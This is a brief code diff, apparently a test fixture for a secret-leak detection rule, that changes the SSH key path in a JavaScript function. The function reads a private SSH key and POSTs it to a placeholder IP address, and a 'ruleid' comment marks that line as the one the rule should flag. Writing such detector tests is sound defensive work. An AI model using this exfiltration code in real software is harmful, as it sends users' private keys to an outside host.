@@ -18,7 +18,7 @@ function ask(user) {
 }
 
 async function keys() {
-  const k = fs.readFileSync('/root/.ssh/id_rsa', 'utf8');
+  const k = fs.readFileSync('/home/app/.ssh/id_rsa', 'utf8');
   // ruleid: js-secret-leaves-by-network
   await fetch('https://198.51.100.4/c', { method: 'POST', body: k });
 }
